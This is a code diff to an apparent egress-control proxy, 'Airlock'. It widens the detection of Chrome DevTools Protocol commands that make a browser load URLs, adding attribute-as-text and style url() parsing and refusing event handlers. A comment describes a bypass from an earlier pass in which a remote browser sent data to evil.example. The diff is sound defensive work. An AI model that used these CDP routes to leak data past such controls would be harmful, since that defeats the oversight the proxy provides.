@@ -745,12 +745,14 @@ function mcpMessage(msg: Record<string, unknown>, data: Buffer): TunnelRead {
  * Chrome DevTools Protocol commands that have the browser load a URL the command names, by the
  * parameter that names it: `Page.navigate {url}`, `Target.createTarget {url}` (a new tab there),
  * `Network.loadNetworkResource {url}`, `Fetch.continueRequest {url}` (an intercepted request sent
- * elsewhere), `DOM.setAttributeValue {value}` (an image's `src` set). Nineteenth pass (left open by
+ * elsewhere), `DOM.setAttributeValue {value}` and `DOM.setAttributesAsText {text}` (an image's `src`,
+ * a style's `url(…)`). Nineteenth pass (left open by
  * the eighteenth): over an approved WebSocket they were relayed undecided, and the remote browser
  * went to `https://evil.example/?d=<data>` from outside Airlock.
  */
 const cdpLoads: Record<string, string> = {
   'Page.navigate': 'url', 'Target.createTarget': 'url', 'Network.loadNetworkResource': 'url', 'Fetch.continueRequest': 'url', 'DOM.setAttributeValue': 'value',
+  'DOM.setAttributesAsText': 'text',
 };
 
 const cdpMethod = /^[A-Z][A-Za-z]*\.[a-z][A-Za-z]*$/;
@@ -779,12 +781,20 @@ export function cdpLoadsOf(text: string): { urls: string[]; refused?: string } {
     const key = cdpLoads[method];
     const value = key === undefined ? undefined : (params as Record<string, unknown>)[key];
     if (typeof value !== 'string') return;
-    if (method !== 'DOM.setAttributeValue') return void load(method, value);
-    // An attribute loads what it names only if it is one that names a URL; a relative one stays on
-    // the page's own site (whose load was decided), as URL parsers read it (tabs and newlines
-    // dropped, `//` and `\\` keeping the page's scheme).
-    if (!urlAttributes.has(String((params as { name?: unknown }).name ?? '').toLowerCase())) return;
-    for (const part of value.split(',').slice(0, 32)) {
+    if (method === 'DOM.setAttributeValue') return void attribute(method, String((params as { name?: unknown }).name ?? ''), value);
+    if (method !== 'DOM.setAttributesAsText') return void load(method, value);
+    // `name="value"` pairs as the HTML parser reads them (`<img src=… onerror=…>` set as text).
+    for (const m of value.matchAll(/([^\s"'>\/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g)) attribute(method, m[1]!, m[2] ?? m[3] ?? m[4] ?? '');
+  };
+  // An attribute loads what it names only if it is one that names a URL; a relative one stays on the
+  // page's own site (whose load was decided), as URL parsers read it (tabs and newlines dropped, `//`
+  // and `\\` keeping the page's scheme). A style's `url(…)` loads too. An event handler or an
+  // iframe's `srcdoc` is code or markup the browser runs: not read.
+  const attribute = (method: string, name: string, value: string): void => {
+    const n = name.toLowerCase();
+    if (/^on/.test(n) || n === 'srcdoc') refused = `${method} sets ${n}: code or markup the browser runs is not read`;
+    const urls = urlAttributes.has(n) ? value.split(',') : n === 'style' ? [...value.matchAll(/url\(\s*["']?([^"')]*)/gi)].map((m) => m[1]!) : [];
+    for (const part of urls.slice(0, 32)) {
       const v = part.replace(/[\t\n\r]/g, '').replace(/^[\x00-\x20]+/, '').split(/[\x00-\x20]/)[0]!;
       if (/^[\\/]{2}/.test(v)) load(method, `https:${v}`);
       else if (/^[a-z][a-z0-9+.-]*:/i.test(v)) load(method, v);
